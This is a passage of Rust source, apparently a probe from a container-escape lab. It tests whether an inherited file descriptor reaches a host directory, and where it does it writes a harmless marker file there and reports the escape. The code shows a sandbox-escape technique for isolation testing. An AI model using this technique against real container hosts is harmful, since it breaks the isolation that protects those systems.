        return Ok(Blocked(format!(
            "fd {fd} is the host's {target}, but creating {HOST_WRITTEN} there: {} as {}",
            errno_name(last_errno()),
            who_on_host()
        )));
    }
    // SAFETY: wfd is an open file that we own from here on.
    let mut file = unsafe { <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(wfd) };
    let _ = std::io::Write::write_all(&mut file, b"written by the escape lab's probe\n");
    Ok(Escaped(format!(
        "created {target}/{HOST_WRITTEN} through fd {fd} as {}",
        who_on_host()
    )))
}
